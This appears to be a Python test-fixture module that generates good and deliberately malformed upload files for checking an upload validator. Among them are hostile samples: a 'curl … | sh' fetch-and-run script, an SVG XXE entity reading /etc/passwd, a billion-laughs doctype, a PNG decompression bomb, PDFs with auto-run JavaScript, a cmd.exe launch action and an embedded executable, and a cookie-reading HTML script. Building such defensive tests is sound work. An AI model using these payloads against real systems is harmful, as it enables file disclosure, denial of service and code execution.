"""Files for the upload checks, made in the test run: good ones, and bad ones made from them.

Nothing here is committed as a binary; every file is built with Pillow, ffmpeg, zipfile, pypdf
or by hand from its format's specification.
"""

from __future__ import annotations

import io
import random
import shutil
import struct
import subprocess
import zipfile
import zlib
from pathlib import Path

from PIL import Image, ImageDraw
from pypdf import PdfReader, PdfWriter

# ---------------------------------------------------------------- raster images


def picture(size: tuple[int, int] = (96, 64)) -> Image.Image:
    """A small picture with detail in it, so encoders have something to compress."""
    image = Image.new("RGB", size, (30, 90, 160))
    draw = ImageDraw.Draw(image)
    for step in range(0, size[0], 8):
        draw.line((step, 0, size[0] - step, size[1]), fill=(step * 2 % 256, 200, 40), width=3)
    draw.ellipse((10, 10, size[0] // 2, size[1] // 2), fill=(250, 220, 0))
    return image


def encoded(image: Image.Image, image_format: str, **options) -> bytes:
    if image_format == "HEIF":
        from pillow_heif import register_heif_opener

        register_heif_opener()
    buffer = io.BytesIO()
    image.save(buffer, format=image_format, **options)
    return buffer.getvalue()


def jpeg(size: tuple[int, int] = (96, 64), **options) -> bytes:
    return encoded(picture(size), "JPEG", quality=90, **options)


def png(size: tuple[int, int] = (96, 64)) -> bytes:
    return encoded(picture(size), "PNG")


def noise_png(size: tuple[int, int] = (1000, 600)) -> bytes:
    """A PNG that does not compress: larger than a read chunk at a small pixel size."""
    noise = random.Random(3).randbytes(size[0] * size[1] * 3)
    return encoded(Image.frombytes("RGB", size, noise), "PNG", compress_level=1)


def _png_chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png_declaring(width: int, height: int) -> bytes:
    """A tiny PNG whose header declares an enormous picture (a few rows of data follow)."""
    header = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    rows = zlib.compress(b"\x00" * (1 + (width + 7) // 8) * 4)
    return (
        b"\x89PNG\r\n\x1a\n"
        + _png_chunk(b"IHDR", header)
        + _png_chunk(b"IDAT", rows)
        + _png_chunk(b"IEND", b"")
    )


def png_bomb(width: int = 20000, height: int = 20000) -> bytes:
    """A real, complete 1-bit PNG of width×height white pixels, compressed a row at a time."""
    compressor = zlib.compressobj(1)
    row = b"\x00" + b"\xff" * ((width + 7) // 8)
    data = b"".join(compressor.compress(row) for _ in range(height)) + compressor.flush()
    header = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + _png_chunk(b"IHDR", header)
        + _png_chunk(b"IDAT", data)
        + _png_chunk(b"IEND", b"")
    )


def png_with_bad_crc() -> bytes:
    data = bytearray(png())
    idat = data.index(b"IDAT")
    length = struct.unpack(">I", data[idat - 4 : idat])[0]
    data[idat + 4 + length] ^= 0xFF  # first byte of the IDAT checksum
    return bytes(data)


def gif_with_comment(comment: bytes) -> bytes:
    return encoded(picture().convert("P"), "GIF", comment=comment)


def cut(data: bytes, fraction: float = 0.5) -> bytes:
    return data[: int(len(data) * fraction)]


def random_bytes(count: int = 8192, seed: int = 7) -> bytes:
    data = random.Random(seed).randbytes(count)
    return b"\x00\x11\x22\x33" + data  # a prefix no format uses, so the test is deterministic


# ---------------------------------------------------------------- SVG

SVG_OPEN = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"'


def svg(
    body: str = "", root_attributes: str = 'width="120" height="80"', prolog: str = ""
) -> bytes:
    shapes = body or '<rect x="10" y="10" width="100" height="60" fill="#c00"/>'
    return (
        f'<?xml version="1.0" encoding="UTF-8"?>\n{prolog}'
        f"{SVG_OPEN} {root_attributes}><title>Cờ đỏ sao vàng</title>{shapes}</svg>\n"
    ).encode()


ILLUSTRATOR_DOCTYPE = (
    '<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" '
    '"http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">\n'
)
XXE_DOCTYPE = '<!DOCTYPE svg [<!ENTITY secret SYSTEM "file:///etc/passwd">]>\n'
BILLION_LAUGHS_DOCTYPE = (
    "<!DOCTYPE svg [\n"
    + '<!ENTITY lol "lol">\n'
    + "".join(
        f'<!ENTITY lol{level} "{("&lol" + (str(level - 1) if level > 1 else "") + ";") * 10}">\n'
        for level in range(1, 10)
    )
    + "]>\n"
)


# ---------------------------------------------------------------- PDF


def _pdf_text(text: str) -> str:
    if text.isascii():
        return "(" + text.replace("\\", "\\\\").replace("(", "\\(").replace(")", "\\)") + ")"
    return "<FEFF" + text.encode("utf-16-be").hex().upper() + ">"


def pdf(
    pages: list[str] | tuple[str, ...] = ("Hello from page one",),
    *,
    info: dict[str, str] | None = None,
    catalog_extra: str = "",
    page_extra: str = "",
    extra_objects: tuple[str, ...] = (),
) -> bytes:
    """A PDF written by hand: Helvetica text pages, an Info dictionary, optional extra objects.

    `catalog_extra` and `page_extra` may name extra objects as {0}, {1}, ... (their references).
    """
    count = len(pages)
    first_extra = 5 + 2 * count
    references = [f"{first_extra + index} 0 R" for index in range(len(extra_objects))]
    kids = " ".join(f"{4 + 2 * index} 0 R" for index in range(count))
    objects = [
        f"<< /Type /Catalog /Pages 2 0 R {catalog_extra.format(*references)} >>",
        f"<< /Type /Pages /Kids [{kids}] /Count {count} >>",
        "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>",
    ]
    for index, text in enumerate(pages):
        content = f"BT /F1 18 Tf 72 720 Td {_pdf_text(text)} Tj ET".encode("latin-1")
        objects.append(
            f"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] "
            f"/Resources << /Font << /F1 3 0 R >> >> /Contents {5 + 2 * index} 0 R "
            f"{page_extra.format(*references)} >>"
        )
        stream = content.decode("latin-1")
        objects.append(f"<< /Length {len(content)} >>\nstream\n{stream}\nendstream")
    entries = " ".join(f"/{key} {_pdf_text(value)}" for key, value in (info or {}).items())
    objects.append(f"<< {entries} >>")
    objects.extend(extra.format(*references) for extra in extra_objects)
    return _assemble(objects, info_number=first_extra - 1)


def _assemble(objects: list[str], info_number: int) -> bytes:
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += f"{number} 0 obj\n{body}\nendobj\n".encode("latin-1")
    xref_at = len(out)
    out += f"xref\n0 {len(objects) + 1}\n0000000000 65535 f \n".encode()
    out += b"".join(f"{offset:010d} 00000 n \n".encode() for offset in offsets)
    out += (
        f"trailer\n<< /Size {len(objects) + 1} /Root 1 0 R /Info {info_number} 0 R >>\n"
        f"startxref\n{xref_at}\n%%EOF\n"
    ).encode()
    return bytes(out)


def pdf_with_open_action_javascript() -> bytes:
    return pdf(
        catalog_extra="/OpenAction {0}",
        extra_objects=("<< /Type /Action /S /JavaScript /JS (app.alert\\('hi'\\)) >>",),
    )


def pdf_with_launch_action() -> bytes:
    return pdf(
        page_extra="/AA << /O {0} >>",
        extra_objects=("<< /S /Launch /F (cmd.exe) >>",),
    )


def pdf_with_embedded_file() -> bytes:
    payload = "MZ this would be a program"
    return pdf(
        catalog_extra="/Names << /EmbeddedFiles << /Names [(tool.exe) {0}] >> >>",
        extra_objects=(
            "<< /Type /Filespec /F (tool.exe) /EF << /F {1} >> >>",
            f"<< /Type /EmbeddedFile /Length {len(payload)} >>\nstream\n{payload}\nendstream",
        ),
    )


def encrypted_pdf() -> bytes:
    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(pdf())))
    writer.encrypt(user_password="", owner_password="chu-so-huu", algorithm="RC4-128")
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def pdf_with_broken_objects() -> bytes:
    """Header and end marker present, but no readable object or page in between."""
    return b"%PDF-1.7\n" + random_bytes(4000, seed=11) + b"\nstartxref\n999999\n%%EOF\n"


def pdf_with_a_broken_trailer() -> bytes:
    """One byte of the trailer dictionary's end damaged: pypdf reads around it, pdfium (the
    renderer of the previews and of most browsers) refuses the whole file."""
    data = pdf()
    trailer_end = data.rindex(b">>\nstartxref")
    return data[: trailer_end + 1] + b"|" + data[trailer_end + 2 :]


# ---------------------------------------------------------------- dangerous content


def real_executable() -> bytes:
    return Path(shutil.which("true") or "/bin/true").read_bytes()


def windows_executable() -> bytes:
    stub = b"MZ" + b"\x90\x00" * 29 + struct.pack("<I", 64)
    return stub + b"This program cannot be run in DOS mode.\r\n$" + b"PE\x00\x00" + bytes(200)


def shell_script() -> bytes:
    return b"#!/bin/sh\ncurl http://example.invalid/x | sh\n"


def html_page() -> bytes:
    return b"<!DOCTYPE html>\n<html><body><script>alert(document.cookie)</script></body></html>\n"


def zip_archive(members: dict[str, bytes] | None = None) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for member, data in (members or {"readme.txt": b"x" * 100_000}).items():
            archive.writestr(member, data)
    return buffer.getvalue()


# ---------------------------------------------------------------- audio and video


def ffmpeg(target: Path, *arguments: str) -> Path:
    command = ["ffmpeg", "-hide_banner", "-loglevel", "error", "-y", *arguments, str(target)]
    subprocess.run(command, check=True, capture_output=True, timeout=120)
    return target


def video_clip(folder: Path, name: str = "clip.mp4", seconds: float = 1.0) -> Path:
    return ffmpeg(
        folder / name,
        "-f", "lavfi", "-i", f"testsrc=size=160x90:rate=15:duration={seconds}",
        "-f", "lavfi", "-i", f"sine=frequency=440:duration={seconds}",
        "-c:v", "libx264", "-preset", "ultrafast", "-pix_fmt", "yuv420p", "-c:a", "aac",
        "-shortest",
    )  # fmt: skip


def without_top_level_box(data: bytes, box: bytes) -> bytes:
    """An MP4 with one top-level box removed, e.g. its index (moov)."""
    kept, offset = [], 0
    while offset < len(data):
        size = struct.unpack(">I", data[offset : offset + 4])[0]
        if data[offset + 4 : offset + 8] != box:
            kept.append(data[offset : offset + size])
        offset += size
    return b"".join(kept)


def audio_clip(folder: Path, name: str, seconds: float = 1.0, *codec: str) -> Path:
    return ffmpeg(
        folder / name, "-f", "lavfi", "-i", f"sine=frequency=330:duration={seconds}", *codec
    )
